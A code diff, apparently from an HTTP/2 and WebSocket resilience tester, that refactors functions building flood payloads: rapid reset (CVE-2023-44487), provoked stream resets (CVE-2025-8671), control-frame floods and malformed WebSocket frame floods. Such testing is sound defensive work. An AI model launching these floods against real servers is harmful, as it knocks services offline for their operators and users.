@@ -55,9 +55,11 @@ def open_post(stream, *fields):
 
 def resets_of_the_server():
     """CVE-2025-8671: the peer breaks a rule of a stream, the server resets it and has the work of it all the same."""
-    reset = frame(RST_STREAM, (8).to_bytes(4, "big"))
+    def taken_back(stream):
+        return frame(RST_STREAM, (8).to_bytes(4, "big"), stream=stream)
+
     return [
-        resets("rapid reset (CVE-2023-44487)", lambda s: get(s, QUICK_PATH) + reset[:5] + s.to_bytes(4, "big") + reset[9:]),
+        resets("rapid reset (CVE-2023-44487)", lambda s: get(s, QUICK_PATH) + taken_back(s)),
         resets("made to reset: WINDOW_UPDATE of 0", lambda s: open_post(s) + increment(0, s)),
         resets("made to reset: window overflow", lambda s: open_post(s) + increment(0x7FFFFFFF, s)),
         resets("made to reset: HEADERS after the end", lambda s: get(s, QUICK_PATH) + get(s, QUICK_PATH)),
@@ -82,7 +84,8 @@ def resets_of_the_server():
         resets("made to reset: connection-specific fields",
                lambda s: request(s, [*get_fields(QUICK_PATH), ("connection", "close")])),
         Flood("made to refuse: more streams than allowed, SETTINGS never acknowledged",
-              PREFACE + b"".join(open_post(s) for s in range(1, 301, 2)), streams(lambda s: get(s, QUICK_PATH), first=301)),
+              PREFACE + b"".join(open_post(s) for s in range(1, 301, 2)),
+              streams(lambda s: get(s, QUICK_PATH), first=301)),
     ]
 
 
@@ -106,7 +109,8 @@ def control_frames():
         flood("unknown frames of 16 KB", frame(99, bytes(16_384)), units=BLOCK),
         flood("ALTSVC", frame(0xA, b"\0\0h3=\":1\"", stream=1)),
         flood("GOAWAY", frame(GOAWAY, bytes(8))),
-        flood("PUSH_PROMISE", frame(PUSH_PROMISE, (2).to_bytes(4, "big") + block(get_fields("/")), END_HEADERS, 1), opened),
+        flood("PUSH_PROMISE", frame(PUSH_PROMISE, (2).to_bytes(4, "big") + block(get_fields("/")), END_HEADERS, 1),
+              opened),
         flood("empty DATA", frame(DATA, stream=1), waiting),
         flood("empty DATA, padded", frame(DATA, b"\xff" + bytes(255), PADDED, 1), waiting),
         flood("DATA of one byte", frame(DATA, b" ", stream=1), waiting, is_cut=True),
@@ -180,7 +184,8 @@ def websockets(stream_path):
     return [
         Flood("WebSocket: " + name, asked, same(unit))
         for name, unit in [
-            ("pings", b"\x89\x80" + mask), ("pongs", b"\x8a\x80" + mask), ("texts of a byte", b"\x81\x81" + mask + b"a"),
+            ("pings", b"\x89\x80" + mask), ("pongs", b"\x8a\x80" + mask),
+            ("texts of a byte", b"\x81\x81" + mask + b"a"),
             ("empty pieces of a text without an end", b"\x01\x80" + mask), ("frames without a mask", b"\x81\x01a"),
             ("frames of 16 KB", b"\x82\xfe\x40\x00" + mask + bytes(16_384)), ("an unknown opcode", b"\x83\x80" + mask),
             ("frames of 2^62 bytes", b"\x82\xff\x40" + bytes(7) + mask),
